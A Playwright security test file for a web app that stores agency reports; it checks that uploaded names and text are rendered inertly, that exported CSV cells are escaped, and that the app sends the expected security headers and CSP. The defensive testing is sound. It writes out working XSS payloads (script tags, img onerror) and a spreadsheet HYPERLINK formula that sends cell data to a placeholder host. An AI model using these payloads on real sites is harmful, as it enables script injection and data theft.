import { test, expect, type Page } from "@playwright/test";
import { seed003As } from "./helpers/variants";
import { removeAgencies } from "./helpers/reports";

// An attacker's upload: an agency name and source text carrying script. Stored through the API,
// then every page that shows them is opened in Chromium: the text shows literally and no script
// runs (no dialog, no flag set). Also the security headers, and the CSP blocking an inline
// handler even if some markup did get through.
const NAME = `安全测试局<script>window.__xss="name"</script><img src=x onerror="window.__xss='img';alert(1)">`;
// (Few enough tags that the file is read as text, not as a web page whose tags are dropped.)
const PAYLOAD_LINES = [
  `<script>window.__xss = "source"; alert("source")</script>`,
  `"><img src=x onerror="window.__xss='source-img'; alert(2)">`,
];

async function guard(page: Page) {
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  return {
    expectNothingRan: async () => {
      expect(dialogs).toEqual([]);
      expect(await page.evaluate(() => (window as unknown as { __xss?: string }).__xss)).toBeUndefined();
    },
  };
}

const FORMULA = `=HYPERLINK("http://example.invalid/?"&A1,"安全测试公式局")`;

test.describe("security", () => {
  let reportId = 0;
  let agencyId = 0;

  test.beforeAll(async ({ request }) => {
    const lines = seed003As("安全测试原名局").split("\n");
    lines.splice(1, 0, ...PAYLOAD_LINES);
    const r = await request.post("/api/reports", {
      multipart: {
        file: { name: "xss.txt", mimeType: "text/plain", buffer: Buffer.from(lines.join("\n")) },
        options: JSON.stringify({ edits: [{ index: 0, agency: NAME }] }),
      },
    });
    expect(r.status()).toBe(200);
    const stored = (await r.json()).results[0].result.reports[0];
    reportId = stored.reportId;
    agencyId = stored.agencyId;
    expect(stored.agency).toBe(NAME);
  });
  test.afterAll(() => removeAgencies([NAME, FORMULA, "安全测试原名局", "安全测试公式原名局"]));

  test("a stored agency name and source text with <script>/onerror show literally and run nothing", async ({ page }) => {
    const { expectNothingRan } = await guard(page);
    await page.goto(`/agencies/${agencyId}`);
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(NAME);
    await expectNothingRan();

    await page.goto(`/reports/${reportId}`);
    const source = page.getByTestId("source-lines");
    for (const line of PAYLOAD_LINES) await expect(source).toContainText(line);
    await expect(page.getByText(NAME).first()).toBeVisible();
    await expectNothingRan();

    for (const path of ["/", "/agencies?q=安全测试局", "/coverage", "/upload", `/compare?a=${agencyId}`]) {
      await page.goto(path);
      await expectNothingRan();
    }
    await page.goto("/agencies?q=安全测试局");
    await expect(page.getByRole("link", { name: NAME })).toBeVisible();
  });

  test("an agency name that is a spreadsheet formula is written to /data.csv as text", async ({ request }) => {
    const r = await request.post("/api/reports", {
      multipart: {
        file: { name: "formula.txt", mimeType: "text/plain", buffer: Buffer.from(seed003As("安全测试公式原名局")) },
        options: JSON.stringify({ edits: [{ index: 0, agency: FORMULA }] }),
      },
    });
    expect(r.status()).toBe(200);
    const csv = await (await request.get("/data.csv")).text();
    const line = csv.split("\r\n").find((l) => l.includes("安全测试公式局"))!;
    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
  });

  test("security headers: a nonce CSP without unsafe-inline scripts, framing by our pages only, nosniff", async ({ request }) => {
    const first = await request.get("/agencies");
    const h = first.headers();
    const csp = h["content-security-policy"];
    expect(csp).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]+' 'strict-dynamic'/);
    expect(csp.split(";").find((d) => d.trim().startsWith("script-src"))).not.toContain("unsafe");
    expect(csp).toContain("frame-ancestors 'self'");
    expect(csp).toContain("object-src 'none'");
    expect(h["x-content-type-options"]).toBe("nosniff");
    expect(h["referrer-policy"]).toBe("strict-origin-when-cross-origin");
    expect(h["permissions-policy"]).toContain("camera=()");
    expect(h["x-frame-options"]).toBe("SAMEORIGIN");
    expect(h["x-powered-by"]).toBeUndefined();
    // Every script Next wrote carries this response's nonce; the next response has another.
    const nonce = /'nonce-([^']+)'/.exec(csp)![1];
    const html = await first.text();
    const scripts = html.match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length).toBeGreaterThan(0);
    for (const s of scripts) expect(s).toContain(`nonce="${nonce}"`);
    const again = (await request.get("/agencies")).headers()["content-security-policy"];
    expect(again).not.toContain(nonce);
    for (const path of ["/api/reports", "/data.csv", "/nope-404"]) {
      expect((await request.get(path)).headers()["x-content-type-options"], path).toBe("nosniff");
    }
  });

  test("the CSP blocks an inline handler that got into the page, and the app still runs its own scripts", async ({ page }) => {
    const { expectNothingRan } = await guard(page);
    const violations: string[] = [];
    page.on("console", (m) => {
      if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
    });
    await page.goto("/agencies");
    await page.evaluate(() => document.body.insertAdjacentHTML("beforeend", `<img src="/nope.png" onerror="window.__xss='injected'">`));
    await page.waitForTimeout(500);
    await expectNothingRan();
    expect(violations.join("\n")).toMatch(/inline event handler|script-src/i);
    // Hydrated: a client-side filter still works under the policy.
    await page.getByRole("link", { name: "概览" }).first().click();
    await expect(page).toHaveURL(/\/$/);
  });
});
